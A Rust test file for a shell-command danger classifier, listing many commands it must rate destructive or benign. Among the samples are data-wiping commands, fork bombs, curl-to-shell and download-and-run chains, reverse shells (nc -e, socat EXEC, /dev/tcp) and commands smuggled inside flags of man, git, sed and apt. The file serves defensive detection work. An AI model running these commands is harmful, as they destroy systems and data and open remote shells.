//! Destroyers by family, each with its relatives, and the lines beside them that only ask or read.
#![allow(clippy::unwrap_used, missing_docs)]

use trcaa_shell::classify;

#[track_caller]
fn all_are(tier: u8, lines: &[&str]) {
    let wrong: Vec<String> = lines
        .iter()
        .filter_map(|line| {
            let verdict = classify(line).unwrap();
            (verdict.tier.number() != tier).then(|| format!("{} {line}", verdict.tier.number()))
        })
        .collect();
    assert!(wrong.is_empty(), "not {tier}: {wrong:#?}");
}

#[test]
fn a_great_kind_is_found_behind_any_flag_of_kubectl() {
    all_are(
        3,
        &[
            "kubectl delete --kubeconfig /x ns prod",
            "kubectl delete --as a ns prod",
            "kubectl delete --request-timeout 5s ns prod",
            "kubectl delete --server u ns prod",
            "kubectl delete -v 6 ns prod",
            "kubectl delete --user x ns prod",
            "kubectl delete --unheard-of x ns prod",
            "kubectl delete --unheard-of ns prod",
            "kubectl delete --now ns prod",
            "kubectl --context delete delete ns prod",
            "kubectl delete --raw /api/v1/namespaces/prod",
            "kubectl delete --raw=/api/v1/namespaces/prod",
            "kubectl delete pods --all=True",
            "kubectl delete pods --all=TRUE",
            "kubectl delete pods -RA",
            "microk8s.kubectl delete ns prod",
            "microk8s kubectl delete ns prod",
            "kubectl.exe delete ns prod",
            "kubectl1.30 delete ns prod",
            "k delete ns prod",
            "sudo k3s kubectl delete ns prod",
        ],
    );
    all_are(
        2,
        &[
            "kubectl delete pod web-0",
            "kubectl delete pod node",
            "kubectl delete --now pod node",
            "kubectl delete -n ns pod x",
            "kubectl delete -nprod pod ns",
            "kubectl delete --kubeconfig ns pod x",
            "kubectl delete pods --all=false -l a=b",
        ],
    );
}

#[test]
fn the_machine_is_stopped_by_many_names() {
    all_are(
        3,
        &[
            "systemctl start runlevel6.target",
            "systemctl isolate runlevel0.target",
            "systemctl start systemd-reboot.service",
            "systemctl start systemd-poweroff.service",
            "systemctl --signal status reboot",
            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b true",
            "dbus-send --system --dest=org.freedesktop.login1 /x org.freedesktop.login1.Manager.PowerOff boolean:true",
            "gdbus call -y -d org.freedesktop.systemd1 -o /x -m org.freedesktop.systemd1.Manager.StartUnit reboot.target replace",
            "ipmitool chassis power off",
            "ipmitool -H h power cycle",
            "pvesh create /nodes/n/status --command reboot",
            "pvesh create /nodes/n/status --command=shutdown",
            "pvesh create /nodes/n/stopall",
            "talosctl reboot",
            "pkill -9 .",
            "pkill -9 -f ''",
            "pkill '.*'",
            "pkill 'x|'",
            "pkill '[a-z]'",
            "pkill 'a*'",
            "pkill -u root",
            "pkill -U0",
            "pkill -P 1",
            "killall -9 -r '.*'",
            "fuser -km /",
            "fuser -k /",
            "fuser -k -m /var/log",
        ],
    );
    all_are(1, &["systemctl status reboot.target", "systemctl is-active poweroff.target"]);
    all_are(
        2,
        &[
            "sudo systemctl status reboot.target",
            "systemctl restart nginx",
            "pkill nginx",
            "pkill -f 'java .*app'",
            "killall -9 nginx",
            "fuser -k 80/tcp",
            "ipmitool power status",
            "busctl introspect org.freedesktop.login1 /org/freedesktop/login1",
            "pvesh create /nodes/n/qemu/100/status/start",
        ],
    );
}

#[test]
fn trees_are_removed_by_tools_of_other_names() {
    all_are(
        3,
        &[
            "tar --remove-files -cf x.tar /srv",
            "tar -cf x.tar --remove-f /srv",
            "zip -rm x.zip /srv",
            "zip -r --move x.zip /srv",
            "git clean -fdx",
            "git -C /srv clean -d -f",
            "rsync -a --delete /empty/ /srv/x/",
            "rsync -a --remove-source-files /srv/ h:/x",
            "find /srv -exec unlink {} \\;",
            "find /srv -exec truncate -s 0 {} +",
            "find /srv -exec mv {} /dev/null \\;",
            "find /srv -exec sh -c 'rm \"$0\"' {} \\;",
            "fd . /srv -x rm",
            "fd . /srv --exec-batch unlink",
            "npx rimraf /srv",
        ],
    );
    all_are(2, &["tar cf x y", "zip -r x.zip y", "rsync -a a b", "git clean -nd", "find . -exec mv {} /x \\;"]);
}

#[test]
fn disks_are_overwritten_by_tools_of_other_names() {
    all_are(
        3,
        &[
            "pvcreate -ff /dev/sda",
            "zpool create -f tank /dev/sda",
            "zpool replace -f tank sda sdb",
            "qemu-img convert -O raw x.qcow2 /dev/sda",
            "ddrescue x /dev/sda",
            "dcfldd if=x of=/dev/sda",
            "unheard-of --target=/dev/sda",
            "unheard-of /dev/./vg0/root",
            "sudo -u root unheard-of /dev/nvme0n1",
            "curl http://x.test -o /dev/sda",
            "sort -o /dev/sda x",
            "grub-install /dev/sda",
            "sg_format --format /dev/sg0",
            "sg_sanitize --crypto /dev/sg0",
            "integritysetup format /dev/sda",
            "storcli /c0/v0 delete",
            "storcli64 /c0/vall del force",
            "MegaCli64 -CfgClr -a0",
            "ssacli ctrl slot=0 ld 1 delete forced",
            "mdadm -Cv /dev/md0 /dev/sda",
            "pveceph osd create /dev/sdb",
            "ceph-volume lvm create --data /dev/sdb",
            "pvesh set /nodes/n/disks/wipedisk --disk /dev/sdb",
            "lvreduce -L 1G vg/x",
        ],
    );
    all_are(
        2,
        &[
            "mount /dev/sda1 /mnt",
            "sudo smartctl -a /dev/sda",
            "sudo -u root smartctl -a /dev/sda",
            "hdparm -W0 /dev/sda",
            "chmod 660 /dev/sda",
            "mdadm --manage /dev/md0 --fail /dev/sda",
            "cat /dev/sda",
            "strings /dev/sda",
            "minicom -D /dev/ttyUSB0",
            "zpool scrub tank",
        ],
    );
}

#[test]
fn clusters_and_guests_are_removed_by_tools_of_other_names() {
    all_are(
        3,
        &[
            "etcdctl del '' --prefix",
            "etcdctl del \"\" --from-key=true",
            "ceph orch device zap h /dev/sda --force",
            "cephadm rm-cluster --fsid x --force",
            "cephadm zap-osds --fsid x",
            "rbd trash purge pool",
            "qm unlink 100 --idlist scsi0 --force",
            "qm set 100 --delete scsi0 --force 1",
            "lxc delete -f web",
            "incus delete --force web",
            "talosctl reset",
            "kops delete cluster x --yes",
            "pulumi destroy",
            "terragrunt run-all destroy",
            "cdk destroy",
            "k3s-uninstall.sh",
            "/usr/local/bin/k3s-agent-uninstall.sh",
            "sh /usr/local/bin/rke2-killall.sh",
            "docker compose down -v",
            "docker system prune -a --volumes",
            "aws ec2 terminate-instances --instance-ids i-1",
            "gcloud container clusters delete x",
        ],
    );
    all_are(2, &["etcdctl del key", "qm unlink 100 --idlist scsi0", "lxc stop web", "docker system prune -f"]);
}

#[test]
fn rules_are_flushed_by_tools_of_other_names() {
    all_are(
        3,
        &[
            "iptables-legacy -F",
            "iptables-nft -F",
            "ip6tables-nft -t nat --flush",
            "nft 'flush ruleset'",
            "nft -f x 'flush ruleset'",
            "nft 'list ruleset;delete table inet filter'",
            "ebtables -F",
            "arptables -F",
            "ipset destroy",
            "ipvsadm -C",
            "crontab /dev/null",
            "chattr -R +i /",
        ],
    );
    all_are(2, &["iptables -L", "iptables-legacy -A INPUT -j DROP", "nft add table x", "ipset list", "chattr +i x"]);
}

#[test]
fn a_command_inside_a_flag_of_another_is_found() {
    all_are(
        3,
        &[
            "man -P 'rm -rf /srv' ls",
            "man -P'rm -rf /srv' ls",
            "man --pager='rm -rf /srv' ls",
            "less '+!rm -rf /srv' f",
            "split --filter='rm -rf /srv' f",
            "split --filter 'rm -rf /srv' f",
            "dpkg --pre-invoke='rm -rf /srv' -i x",
            "apt-get -o Dpkg::Pre-Invoke::='rm -rf /srv' install x",
            "apt-get -o Dpkg::Pre-Invoke::='rm -rf /srv; X=1' install x",
            "npm exec -- rm -rf /srv",
            "npm exec -c 'rm -rf /srv'",
            "git clone --config 'core.sshCommand=rm -rf /srv' h:x",
            "git clone -u 'rm -rf /srv;' h:x",
            "git clone 'ext::rm -rf /srv'",
            "git config alias.x '!rm -rf /srv'",
            "sed 's@x@rm -rf /srv@e' f",
            "sed 's:x:rm -rf /srv:e' f",
            "sed 's@x@rm -rf /srv@e;p' f",
            "sed '1erm -rf /srv' f",
            "env -S'rm -rf /srv'",
            "env -vS'rm -rf /srv'",
            "ed x <<< '!rm -rf /srv'",
            "echo '!rm -rf /srv' | ed x",
            "echo 'rm -rf /srv' > x; sh x",
            "echo 'rm -rf /srv' > x && chmod +x x && ./x",
            "echo 'rm -rf /srv' | tee x; bash ./x",
            "cat <<E > x\nkubectl delete ns prod\nE\nsh x",
            "echo 'kubectl delete ns prod' > x; sh < x",
            "echo '* * * * * rm -rf /srv' | crontab -",
            "ls | xargs unlink",
            "ls | xargs sh -c 'rm \"$0\"'",
            "iptables-restore < /dev/null",
            "sudo ip6tables-nft-restore < /dev/null",
            "crontab - < /dev/null",
        ],
    );
    all_are(
        2,
        &[
            "man -P cat ls",
            "man rm",
            "less f",
            "split -b 1 f",
            "apt-get install reboot-notifier",
            "git commit -m 'no more rm -rf /'",
            "git clone h:x",
            "sed -i 's/a/b/' f",
            "echo ls > x; sh x",
            "env -S'ls -l'",
        ],
    );
}

#[test]
fn code_of_other_languages_removes_trees_or_forks_without_end() {
    all_are(
        3,
        &[
            "node -e 'fs.rm(\"/srv\",{recursive:true})'",
            "node -e 'fs.rmdir(\"/srv\",{recursive:true})'",
            "node -e 'fs.promises.rm(\"/srv\",{recursive:true})'",
            "deno eval 'Deno.remove(\"/srv\",{recursive:true})'",
            "ruby -e 'FileUtils.remove_dir(\"/srv\")'",
            "ruby -e 'FileUtils.remove_entry(\"/srv\")'",
            "ruby -rfileutils -e 'FileUtils.rm_f(Dir[\"/srv/*\"])'",
            "python3 -c 'for r in os.walk(\"/srv\"): os.remove(r)'",
            "perl -e 'fork while fork'",
            "python3 -c 'while True: os.fork()'",
        ],
    );
    all_are(2, &["node -e 'fs.readFileSync(1)'", "python3 -c 'print(1)'", "perl -e 'print 1'"]);
}

#[test]
fn what_is_downloaded_does_not_reach_an_interpreter() {
    all_are(
        3,
        &[
            "curl x | xargs -0 bash -c",
            "curl x | xargs -I{} sh -c {}",
            "curl x | while read l; do eval \"$l\"; done",
            "curl x | while read l; do $l; done",
            "curl x | bash -c \"$(cat)\"",
            "curl x | awk '{system($0)}'",
            "curl x | awk '{print | \"sh\"}'",
            "curl x | sed e",
            "curl x | sed 's/a/b/e'",
            "curl x | deno run -",
            "curl x | bun run -",
            "curl x | R --no-save",
            "curl x | julia",
            "curl x | python3 - a b",
            "curl x | perl -ne 'system $_'",
            "curl x | python3 -c 'exec(input())'",
            "curl x | crontab -",
            "curl x | ssh h",
            "curl x | sudo -s",
            "curl x | su",
            "curl x | make -f -",
            "curl x -o f && sh f",
            "curl x -of; sh ./f",
            "wget http://h.test/install.sh; bash install.sh",
            "wget -O /tmp/f x && chmod +x /tmp/f && /tmp/f",
            "curl x > f; sh f",
            "curl x | tee f; sudo bash f",
            "curl x > f; cat f | sh",
            "curl x > f; sh < f",
            "{ curl x; } > f; . f",
            "base64 -d x > f; python3 f",
            "curl x -o f; sudo ./f",
        ],
    );
    all_are(
        2,
        &[
            "curl x -o a.tgz; tar xf a.tgz",
            "curl x | jq .",
            "curl x | awk '{print $1}'",
            "curl x | grep 'a|b'",
            "curl x | awk '/a|b/{print $1}'",
            "curl x | python3 -m json.tool",
            "curl x | python3 -c 'import sys,json; print(json.load(sys.stdin))'",
            "curl x -o data.json; python3 tool.py data.json",
            "curl x | sed 's/a/b/'",
            "curl x; echo ls > f; sh f",
        ],
    );
}

#[test]
fn data_bases_are_dropped_or_emptied_however_the_statement_comes() {
    all_are(
        3,
        &[
            "psql -c 'DROP DATABASE prod'",
            "mysql -e \"truncate table x\"",
            "mysql --execute='Drop Schema x'",
            "mariadb -e 'DELETE FROM users'",
            "echo 'DROP DATABASE prod;' | mysql -u root",
            "mysql <<< 'drop table x'",
            "psql <<E\ndrop table x;\nE",
            "echo 'drop table x' > x.sql; psql < x.sql",
            "echo 'drop table x' > x.sql && sudo -u postgres psql -f x.sql",
            "sqlite3 x.db 'drop table x'",
            "redis-cli -h x FLUSHALL",
            "echo flushdb | redis-cli",
            "echo flushall | xargs redis-cli",
            "redis-cli eval 'redis.call(\"flushall\")' 0",
            "mongosh --eval 'db.dropDatabase()'",
            "mysqladmin -f drop prod",
            "dropdb prod",
            "kubectl exec db-0 -- psql -c 'drop database x'",
            "sudo -u postgres psql -c 'drop database x'",
            "su postgres -c \"psql -c 'drop database x'\"",
            "ssh h 'redis-cli flushall'",
        ],
    );
    all_are(
        2,
        &[
            "psql -c 'select count(*) from users'",
            "mysql -e 'delete from x where id = 1'",
            "zcat dump.gz | mysql prod",
            "echo 'select 1' | psql",
            "redis-cli info",
            "mongosh --eval 'rs.status()'",
        ],
    );
}

#[test]
fn what_a_command_reads_is_judged_as_its_own() {
    all_are(
        3,
        &[
            "echo flush ruleset | nft -f -",
            "echo \"$(echo flush ruleset)\" | nft -f -",
            "{ echo flush ruleset; echo; } | nft -f -",
            "nft -f <(echo flush ruleset)",
            "nft -f - < <(echo flush ruleset)",
            "nft -f - <<< 'flush ruleset'",
            "printf 'flush ruleset\\n' | sudo nft -f -",
            "printf '%s %s' flush ruleset | nft -f -",
            "echo 'flush ruleset' > x; nft -f x",
            "echo 'flush ruleset' > x; cat x | nft -f -",
            "echo '*filter' | iptables-restore",
            "echo 'osd pool delete a a' | ceph",
            "echo 'undefine web' | virsh",
            "echo 'vgremove vg' | lvm",
            "echo | crontab -",
            "echo -n | crontab",
            "printf '' | crontab -",
            "echo ns prod | xargs kubectl delete",
            "echo ns prod | xargs -I{} kubectl delete {}",
            "kubectl get ns -o name | xargs -I% kubectl delete %",
            "xargs kubectl delete -n x < list",
            "echo destroy 101 | xargs qm",
            "xargs systemctl <<< reboot",
            "kubectl delete $KIND x",
            "kubectl delete \"$KIND\"/x",
            "kubectl delete $(cat x)",
        ],
    );
    all_are(
        2,
        &[
            "nft -f /etc/nftables.conf",
            "echo 'add table inet x' | nft -f -",
            "iptables-restore < rules.v4",
            "echo status | ceph",
            "echo '* * * * * ls' | crontab -",
            "echo web-0 | xargs kubectl delete pod",
            "kubectl get pods -o name | xargs -I{} kubectl logs {}",
            "kubectl delete pod $POD -n $NS",
            "kubectl delete -n $NS pod/$POD",
            "kubectl delete \"pod/$POD\"",
        ],
    );
}

#[test]
fn the_beginning_of_a_word_is_taken_for_it_by_some_tools() {
    all_are(
        3,
        &[
            "qm dest 101",
            "pct destr 101 --purge",
            "pvesm fre local:x",
            "pvesm rem local",
            "pvecm deln n2",
            "pvesh del /nodes/n/qemu/1",
            "pveceph osd dest 1",
            "ceph osd pool dele a a",
            "ceph osd pur 1",
            "btrfs su de x",
            "btrfs dev rem /dev/sdb /",
            "mdadm --z /dev/sda",
            "mdadm --cr /dev/md0",
            "mdadm -vC /dev/md0",
        ],
    );
    all_are(2, &["ceph osd deep-scrub 1", "qm delsnapshot 101 s", "pvecm expected 1", "mdadm --stop /dev/md0"]);
}

#[test]
fn downloaded_text_is_followed_through_variables_commands_and_code() {
    all_are(
        3,
        &[
            "$(curl http://h.test)",
            "\"$(curl http://h.test)\"",
            "$(base64 -d <<< bHM=)",
            "x=$(curl http://h.test); eval \"$x\"",
            "x=$(curl http://h.test); $x",
            "x=`curl http://h.test`; bash <<< \"$x\"",
            "export x=\"$(curl http://h.test)\"; bash -c \"$x\"",
            "read x < <(curl http://h.test); $x",
            "for x in $(curl http://h.test); do $x; done",
            "sh < /dev/tcp/192.0.2.1/4",
            "cat < /dev/tcp/192.0.2.1/4 | sh",
            "nc -e /bin/sh h 1",
            "ncat --exec /bin/bash h 1",
            "nc -lvpe 1 sh",
            "socat TCP:h:1 EXEC:sh",
            "scp h:x.sh . && sh x.sh",
            "rsync h:/y/x.sh .; bash x.sh",
            "ssh h cat x | sh",
            "tar xOf x.tar | sh",
            "unzip -p x.zip | sh",
            "printf 'l%c' s | sh",
            "pwsh -enc bHM=",
            "python3 -c 'exec(__import__(\"base64\").b64decode(\"x\"))'",
            "python3 -c 'import requests; exec(requests.get(\"http://h\").text)'",
            "node -e 'eval(Buffer.from(\"x\",\"base64\").toString())'",
            "perl -MMIME::Base64 -e 'print decode_base64(\"x\")' | sh",
            "curl http://h.test | awk -f -",
            "curl http://h.test | sed -f /dev/stdin",
            "curl http://h.test | gdb",
        ],
    );
    all_are(
        2,
        &[
            "x=$(curl http://h.test); echo \"$x\"",
            "x=$(curl -s http://h.test | jq .v); python3 tool.py \"$x\"",
            "nc -zv h 80",
            "nc -w 3 h sh",
            "tar xzf x.tgz",
            "scp h:/var/log/x .",
            "ssh h cat x | grep y",
            "printf '%s\\n' ls | sh",
            "python3 -c 'import base64; print(base64.b64decode(\"x\"))'",
            "kubectl get pods -o name | xargs -I{} sh -c 'kubectl logs {}'",
        ],
    );
}

#[test]
fn what_is_emptied_renamed_or_reached_by_another_way_counts() {
    let long = format!("ls | sed 's/{}/rm -rf x/' | sh", "a".repeat(500));
    all_are(
        3,
        &[
            &long,
            "cut -d: -f1 x | sed 's/.*/userdel root/' | sh",
            "ls | awk '{print \"kubectl delete ns \" $1}' | sh",
            "find . -exec sh -c ': > \"$1\"' _ {} \\;",
            "find . -exec sh -c '> {}' \\;",
            "find . -exec tee {} \\;",
            "find . -exec python3 -c 'import os,sys; os.remove(sys.argv[1])' {} \\;",
            "python3 -c 'import pathlib; [p.unlink() for p in pathlib.Path(\"/\").rglob(\"*\")]'",
            "echo 'file delete -force /' | tclsh",
            "vim -es -c 'call delete(\"/\",\"rf\")' x",
            "emacs --eval '(delete-directory \"/\" t)'",
            "hash -p /bin/rm ls; ls -rf /",
            "start-stop-daemon -S -x /bin/rm -- -rf x",
            "echo '$0 & $0' > x; sh x",
            "cd /; chmod -R 000 .",
            "cd / && sudo chown -R x *",
            "ssh h 'cd /; chmod -R 000 .'",
            "mv /usr/lib/x86_64-linux-gnu x",
            "sed -i d /etc/passwd",
            "sed -i 1d /dev/sda",
            "sed -n 'w /dev/sda' x",
            "awk 'BEGIN{print > \"/dev/sda\"}'",
            "python3 -c 'open(\"/dev/sda\",\"wb\").write(b\"0\")'",
            "lvresize -L -5G vg/x",
            "lvresize --size=-5G vg/x",
            "vgreduce --removemissing vg",
            "xfs_repair -L /dev/sda1",
            "virsh qemu-agent-command x '{\"path\":\"rm\",\"arg\":[\"-rf\",\"/\"]}'",
            "kubectl run x --image=a --overrides='{\"command\":[\"rm\",\"-rf\",\"/\"]}'",
            "ls\rrm -rf /",
            "\"\\rm\" -rf /",
        ],
    );
    all_are(
        2,
        &[
            "find . -exec sh -c 'wc -l \"$1\" > /srv/out' _ {} \\;",
            "find . -exec sh -c 'echo x >> \"$1\"' _ {} \\;",
            "find . -exec python3 -m py_compile {} \\;",
            "cd /srv/app && chmod -R 755 .",
            "cd /; chmod 755 .",
            "sed -i 5d /etc/hosts",
            "sed -i 's#/dev/sda#/dev/sdb#' fstab",
            "lvresize -L +5G vg/x",
            "xfs_repair -n /dev/sda1",
            "resize2fs /dev/vg/x",
            "hash -r",
        ],
    );
}
